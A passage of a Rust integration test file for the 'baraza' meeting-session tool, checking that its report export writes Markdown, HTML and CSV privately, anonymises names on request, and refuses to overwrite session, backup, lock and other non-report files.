    assert!(md.contains("- **2026-06-22** — progress noted"));
}

// --- The command line -----------------------------------------------------

fn baraza(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_baraza"))
        .args(args)
        .env("BARAZA_DIR", dir)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn stdout(o: &Output) -> String {
    String::from_utf8(o.stdout.clone()).unwrap()
}

fn stderr(o: &Output) -> String {
    String::from_utf8(o.stderr.clone()).unwrap()
}

/// A temp folder holding copies of the example sessions.
fn examples_folder() -> (TempDir, PathBuf) {
    let tmp = TempDir::new().unwrap();
    let dir = tmp.path().join("sessions");
    fs::create_dir(&dir).unwrap();
    for path in [KIBERA, EASTLEIGH] {
        let name = Path::new(path).file_name().unwrap();
        fs::copy(path, dir.join(name)).unwrap();
    }
    (tmp, dir)
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    fs::metadata(path).unwrap().permissions().mode() & 0o777
}

#[test]
fn export_writes_each_format_next_to_the_session_privately() {
    let (_tmp, dir) = examples_folder();
    let out = baraza(
        &dir,
        &[
            "export",
            "kibera",
            "--format",
            "md",
            "--as-of",
            "2026-11-27",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let md_path = dir.join("2026-06-06-kibera-youth-baraza-cycle-1.md");
    assert_eq!(stdout(&out), format!("{}\n", md_path.display()));
    let md = fs::read_to_string(&md_path).unwrap();
    assert_eq!(md, markdown::markdown(&example(KIBERA), &as_of()));
    #[cfg(unix)]
    assert_eq!(mode(&md_path), 0o600);

    let out = baraza(&dir, &["export", "e4stl31gh0", "-F", "html"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let html_path = dir.join("2026-10-17-eastleigh-market-security-baraza.html");
    assert_eq!(stdout(&out).trim(), html_path.display().to_string());
    assert!(fs::read_to_string(&html_path).unwrap().contains("<svg"));
    #[cfg(unix)]
    assert_eq!(mode(&html_path), 0o600);

    let out = baraza(&dir, &["export", "kibera", "--format", "csv"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let printed = stdout(&out);
    let written: Vec<&str> = printed.lines().map(|l| l.trim()).collect();
    assert_eq!(written.len(), SessionTable::ALL.len());
    for t in SessionTable::ALL {
        let path = dir.join(format!(
            "2026-06-06-kibera-youth-baraza-cycle-1-{}.csv",
            t.name()
        ));
        assert!(written.contains(&path.display().to_string().as_str()));
        parse_csv(&fs::read(&path).unwrap());
        #[cfg(unix)]
        assert_eq!(mode(&path), 0o600);
    }
    // Reports beside the sessions are not taken for sessions.
    let list = baraza(&dir, &["list", "--format", "tsv"]);
    assert_eq!(stdout(&list).lines().count(), 1 + 2, "{}", stdout(&list));
    assert_eq!(stderr(&list), "");
}

#[test]
fn export_to_standard_output_and_to_a_chosen_file() {
    let (tmp, dir) = examples_folder();
    let out = baraza(
        &dir,
        &["export", "kibera", "-o", "-", "--as-of", "2026-11-27"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), markdown::markdown(&example(KIBERA), &as_of()));

    let out = baraza(
        &dir,
        &[
            "export", "kibera", "-F", "csv", "--table", "votes", "-o", "-",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let (header, rows) = parse_csv(&out.stdout);
    assert_eq!(header[1], "round");
    assert_eq!(rows.len(), 108);

    // One CSV table to a file; all of them to FILE-<table>.csv.
    let file = tmp.path().join("out.csv");
    let out = baraza(
        &dir,
        &[
            "export",
            "kibera",
            "-F",
            "csv",
            "--table",
            "actions",
            "-o",
            file.to_str().unwrap(),
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(parse_csv(&fs::read(&file).unwrap()).1.len(), 6);
    let out = baraza(
        &dir,
        &[
            "export",
            "kibera",
            "-F",
            "csv",
            "--no-bom",
            "-o",
            file.to_str().unwrap(),
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let problems = fs::read(tmp.path().join("out-problems.csv")).unwrap();
    assert!(problems.starts_with(b"session,problem_id,title"));

    // Anonymised, to a folder: default names marked -anon.
    let folder = tmp.path().join("share");
    fs::create_dir(&folder).unwrap();
    let out = baraza(
        &dir,
        &[
            "export",
            "kibera",
            "-F",
            "html",
            "--anonymize",
            "-o",
            folder.to_str().unwrap(),
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let page = fs::read_to_string(folder.join("2026-06-06-kibera-youth-baraza-cycle-1-anon.html"))
        .unwrap();
    assert!(!page.contains("Amina") && !page.contains("Odhiambo"));
}

fn assert_short_error(o: &Output, code: i32, says: &str) {
    let err = stderr(o);
    assert_eq!(o.status.code(), Some(code), "stderr: {err}");
    assert!(err.contains(says), "expected «{says}» in: {err}");
    assert!(!err.contains("panicked"), "{err}");
    assert!(
        err.lines().filter(|l| !l.trim().is_empty()).count() <= 3,
        "{err}"
    );
    assert_eq!(stdout(o), "");
}

#[test]
fn export_mistakes_get_one_line_and_the_right_exit_code() {
    let (_tmp, dir) = examples_folder();
    assert_short_error(
        &baraza(&dir, &["export", "kibera", "--format", "pdf"]),
        2,
        "pdf",
    );
    assert_short_error(
        &baraza(&dir, &["export", "kibera", "--format", "csv", "-o", "-"]),
        2,
        "choose one with --table",
    );
    assert_short_error(
        &baraza(&dir, &["export", "kibera", "--table", "votes"]),
        2,
        "--table is for CSV only",
    );
    assert_short_error(
        &baraza(&dir, &["export", "kibera", "-F", "csv", "--table", "nope"]),
        2,
        "nope",
    );
    assert_short_error(
        &baraza(&dir, &["export", "nowhere"]),
        1,
        "no session matches «nowhere»",
    );
    assert_short_error(
        &baraza(&dir, &["export", "kibera", "--as-of", "31/11/2026"]),
        2,
        "is not a date",
    );
    let broken = dir.join("2026-01-01-broken.ron");
    fs::write(&broken, "(version: 2, title: ").unwrap();
    let out = baraza(&dir, &["export", broken.to_str().unwrap()]);
    assert_short_error(&out, 1, "2026-01-01-broken.ron:1:");
    let session_file = dir.join("2026-10-17-eastleigh-market-security-baraza.ron");
    let before = fs::read(&session_file).unwrap();
    assert_short_error(
        &baraza(
            &dir,
            &["export", "kibera", "-o", session_file.to_str().unwrap()],
        ),
        1,
        "is a session file; a report is never written over one",
    );
    assert_eq!(fs::read(&session_file).unwrap(), before);
    let unwritable = dir.join("no-such-folder").join("report.md");
    assert_short_error(
        &baraza(
            &dir,
            &["export", "kibera", "-o", unwritable.to_str().unwrap()],
        ),
        1,
        "cannot write",
    );
    // No report was written by the mistakes.
    for entry in fs::read_dir(&dir).unwrap() {
        let name = entry.unwrap().file_name().to_string_lossy().into_owned();
        assert!(
            !name.ends_with(".md") && !name.ends_with(".csv") && !name.ends_with(".html"),
            "{name}"
        );
    }
}

#[test]
fn export_never_writes_over_baraza_own_files_or_files_that_are_not_reports() {
    let (tmp, dir) = examples_folder();
    let kibera = dir.join("2026-06-06-kibera-youth-baraza-cycle-1.ron");
    let refused = |target: &Path, says: &str| {
        let before = fs::symlink_metadata(target)
            .ok()
            .map(|_| fs::read(target).ok());
        for args in [
            vec!["export", "kibera", "-o", target.to_str().unwrap()],
            vec![
                "export",
                "kibera",
                "-F",
                "html",
                "-o",
                target.to_str().unwrap(),
            ],
            vec![
                "export",
                "kibera",
                "-F",
                "csv",
                "--table",
                "problems",
                "-o",
                target.to_str().unwrap(),
            ],
            vec!["rollup", "-o", target.to_str().unwrap()],
        ] {
            let out = baraza(&dir, &args);
            assert_short_error(&out, 1, says);
            assert_eq!(stderr(&out).lines().count(), 1, "{}", stderr(&out));
            assert_eq!(
                fs::symlink_metadata(target)
                    .ok()
                    .map(|_| fs::read(target).ok()),
                before,
                "{} is as it was after {args:?}",
                target.display()
            );
        }
    };

    // The backup of an upgraded original: the only copy of the old file.
    let backup = dir.join("2026-06-06-kibera-youth-baraza-cycle-1.v1.ron.bak");
    fs::write(&backup, "(version: 1)").unwrap();
    refused(&backup, "is the backup of a session file");
    refused(
        &dir.join("anything.ron.bak"),
        "is the backup of a session file",
    );
    refused(&kibera, "is a session file");
    refused(&dir.join("new.RON"), "is a session file");

    // The lock of a session open for editing: replacing the file would give
    // it a new inode, which a second program could lock.
    let open = baraza::store::OpenSession::open(&kibera, "facilitator").unwrap();
    let lock = dir.join("2026-06-06-kibera-youth-baraza-cycle-1.ron.lock");
    #[cfg(unix)]
    let inode = {
        use std::os::unix::fs::MetadataExt;
        fs::metadata(&lock).unwrap().ino()
    };
    refused(&lock, "is a session's lock file");
    #[cfg(unix)]
    {
        use std::os::unix::fs::MetadataExt;
        assert_eq!(fs::metadata(&lock).unwrap().ino(), inode);
    }
    assert!(
        baraza::store::OpenSession::open(&kibera, "second").is_err(),
        "the session is still locked"
    );
    drop(open);

    // The listing cache and temporary files, there or not.
    assert!(baraza(&dir, &["list"]).status.success());
    refused(&dir.join(".baraza-index"), "is the listing cache");
    refused(&tmp.path().join(".baraza-index"), "is the listing cache");
    refused(
        &dir.join(".baraza-tmp-4242-0-2026-06-06-kibera-youth-baraza-cycle-1.ron"),
        "is a session file",
    );
    refused(
        &dir.join(".baraza-tmp-4242-1-report.md"),
        "is a temporary file",
    );

    // Other files that are there and are not reports.
    let notes = tmp.path().join("notes.txt");
    fs::write(&notes, "the only copy of my notes").unwrap();
    refused(&notes, "exists and is not a report (.md, .html or .csv)");
    let script = tmp.path().join("run");
    fs::write(&script, "#!/bin/sh").unwrap();
    refused(&script, "exists and is not a report");
    #[cfg(unix)]
    {
        let link = tmp.path().join("link.md");
        std::os::unix::fs::symlink(&notes, &link).unwrap();
        refused(&link, "exists and is not a plain file");
        assert_eq!(
            fs::read_to_string(&notes).unwrap(),
            "the only copy of my notes"
        );
    }

    // Every CSV table to FILE-<table>.csv: refused as a whole when one name is.
    let out = baraza(
        &dir,
        &[
            "export",
            "kibera",
            "-F",
            "csv",
            "-o",
            dir.join(".baraza-tmp-9-9-x.csv").to_str().unwrap(),
        ],
    );
    assert_short_error(&out, 1, "is a temporary file");
    assert!(
        fs::read_dir(&dir).unwrap().all(|e| !e
            .unwrap()
            .file_name()
            .to_string_lossy()
            .ends_with(".csv"))
    );

    // What still works: a report over a report baraza wrote, a new file of
    // any name, a folder, standard output.
    let old = tmp.path().join("old.md");
    let out = baraza(&dir, &["export", "kibera", "-o", old.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = baraza(&dir, &["export", "kibera", "-o", old.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        fs::read_to_string(&old)
            .unwrap()
            .starts_with("# Kibera youth baraza")
    );
    let new = tmp.path().join("report.txt");
    let out = baraza(&dir, &["export", "kibera", "-o", new.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(new.is_file());
    let out = baraza(
        &dir,
        &["export", "kibera", "-o", tmp.path().to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        tmp.path()
            .join("2026-06-06-kibera-youth-baraza-cycle-1.md")
            .is_file()
    );
    let out = baraza(&dir, &["export", "kibera", "-o", "-"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stdout(&out).starts_with("# Kibera youth baraza"));
}

// --- In the program -------------------------------------------------------

#[test]
fn x_in_the_program_writes_the_reports_next_to_the_session() {
    let session = example(KIBERA);
    let mut h = common::Harness::open(&session);
    let path = h.path();
    let before = common::load(&path);
    h.keys("x");
    let md = path.with_extension("md");
    let page = path.with_extension("html");
    assert!(md.is_file() && page.is_file(), "message: {}", h.message());
    assert_eq!(
        h.message(),
        "report written next to the session: 2026-06-06-kibera-youth-baraza-cycle-1-k1b3racyc1.md, \
         2026-06-06-kibera-youth-baraza-cycle-1-k1b3racyc1.html"
    );
    let written = fs::read_to_string(&md).unwrap();
    assert!(written.starts_with("# Kibera youth baraza — cycle 1\n"));
    assert!(fs::read_to_string(&page).unwrap().contains("<svg"));
    #[cfg(unix)]
    assert_eq!(mode(&md), 0o600);
    // The session records both reports in its export log, and nothing else
    // in it changes.
    let mut after = h.saved();
    let log: Vec<(baraza::model::ExportFormat, Vec<String>)> = after
        .exports
        .iter()
        .map(|e| (e.format, e.to.clone()))
        .collect();
    assert_eq!(
        log,
        [
            (
                baraza::model::ExportFormat::Markdown,
                vec![md.display().to_string()]
            ),
            (
                baraza::model::ExportFormat::Html,
                vec![page.display().to_string()]
            ),
        ]
    );
    assert_eq!(
        after.audit.last().unwrap().what,
        "reports written: Markdown report, to 2026-06-06-kibera-youth-baraza-cycle-1-k1b3racyc1.md; \
         HTML report, to 2026-06-06-kibera-youth-baraza-cycle-1-k1b3racyc1.html"
    );
    after.exports.clear();
    after.audit.pop();
    after.updated = before.updated;
    assert_eq!(
        after, before,
        "only the export log and its audit line are new"
    );

    // Read-only review exports too: only the reports are written, and the
    // message says they are not in the log.
    fs::remove_file(&md).unwrap();
    let mut r = common::Harness::new();
    let path = r.store().create(&session).unwrap();
    let untouched = fs::read(&path).unwrap();
    r.app.start(baraza::tui::Start::ReadOnly(path.clone()));
    r.keys("x");
    assert!(path.with_extension("md").is_file(), "{}", r.message());
    assert!(
        r.message()
            .starts_with("report written next to the session")
    );
    assert!(
        r.message().ends_with("not in its export log (read-only)"),
        "{}",
        r.message()
    );
    assert_eq!(fs::read(&path).unwrap(), untouched);
}

/// `x` writes through the same guard as `baraza export`: whatever `export`
/// refuses at a path, `x` refuses when its fixed name beside the session is
/// that path, writes nothing (not even the other report) and says in one line
/// what to do, since the facilitator cannot give `x` another name.
#[test]
fn x_refuses_what_export_refuses_and_says_what_to_do() {
    let session = example(KIBERA);
    let mut h = common::Harness::open(&session);
    let path = h.path();
    let dir = path.parent().unwrap().to_path_buf();
    let md = path.with_extension("md");
    let page = path.with_extension("html");
    let notes = h.dir.path().join("notes.txt");
    fs::write(&notes, "the only copy of my notes").unwrap();

    let snapshot = |p: &Path| {
        fs::symlink_metadata(p)
            .ok()
            .map(|m| (m.file_type(), fs::read(p).ok()))
    };
    // What is in the way, made at a path (given the notes file to link to).
    type Make = fn(&Path, &Path);
    let mut obstacles: Vec<(&str, Make, &Path)> = vec![(
        "a folder",
        |p, _| fs::create_dir(p).unwrap(),
        page.as_path(),
    )];
    #[cfg(unix)]
    obstacles.push((
        "a link to a file that is not a report",
        |p, notes| std::os::unix::fs::symlink(notes, p).unwrap(),
        md.as_path(),
    ));
    for (what, make, at) in obstacles {
        make(at, &notes);
        let before = snapshot(at);
        // `baraza export` writes to the same name beside the session.
        let format = at.extension().unwrap().to_str().unwrap();
        let out = baraza(&dir, &["export", "kibera", "-F", format]);
        assert_short_error(&out, 1, "exists and is not a plain file");

        h.keys("x");
        let message = h.message();
        assert_eq!(
            message,
            format!(
                "report not written: the .{format} beside the session is not a plain file; \
                 move it or use baraza export -o"
            ),
            "{what}"
        );
        // Read whole on the status line of a 120-column screen.
        assert!(h.render(120, 40).contains(&message), "{what}");
        assert_eq!(snapshot(at), before, "{what} is as it was");
        for other in [&md, &page] {
            if other.as_path() != at {
                assert!(
                    !other.exists(),
                    "{what}: nothing is written, {}",
                    other.display()
                );
            }
        }
        if at.is_dir() {
            fs::remove_dir(at).unwrap();
        } else {
            fs::remove_file(at).unwrap();
        }
    }
    assert_eq!(
        fs::read_to_string(&notes).unwrap(),
        "the only copy of my notes"
    );

    // A file of the report's name that baraza did not write stays.
    fs::write(&md, "last week's notes").unwrap();
    h.keys("x");
    assert_eq!(
        h.message(),
        "report not written: the .md beside the session was not written by baraza; \
         move it or use baraza export -o"
    );
    assert_eq!(fs::read_to_string(&md).unwrap(), "last week's notes");
    fs::remove_file(&md).unwrap();
    // An earlier report in the way is what exporting again replaces.
    h.keys("x");
    h.keys("x");
    assert!(
        h.message()
            .starts_with("report written next to the session"),
        "{}",
        h.message()
    );
    assert!(
        fs::read_to_string(&md)
            .unwrap()
            .starts_with("# Kibera youth baraza")
    );
}

/// A session opened from a file that is not named `.ron` is never replaced
/// by its own report, by `x` or by `baraza export`.
#[test]
fn a_report_is_never_written_over_the_session_it_is_made_from() {
    let tmp = TempDir::new().unwrap();
    let odd = tmp.path().join("kibera.html");
    fs::copy(KIBERA, &odd).unwrap();
    let before = fs::read(&odd).unwrap();

    let out = baraza(tmp.path(), &["export", odd.to_str().unwrap(), "-F", "html"]);
    assert_short_error(&out, 1, "is the session itself");
    assert_eq!(fs::read(&odd).unwrap(), before);

    let mut h = common::Harness::new();
    h.app.start(baraza::tui::Start::ReadOnly(odd.clone()));
    h.keys("x");
    assert_eq!(
        h.message(),
        "report not written: the session's own file ends in .html; use baraza export -o"
    );
    assert_eq!(fs::read(&odd).unwrap(), before);
    assert!(!tmp.path().join("kibera.md").exists(), "nothing is written");
}
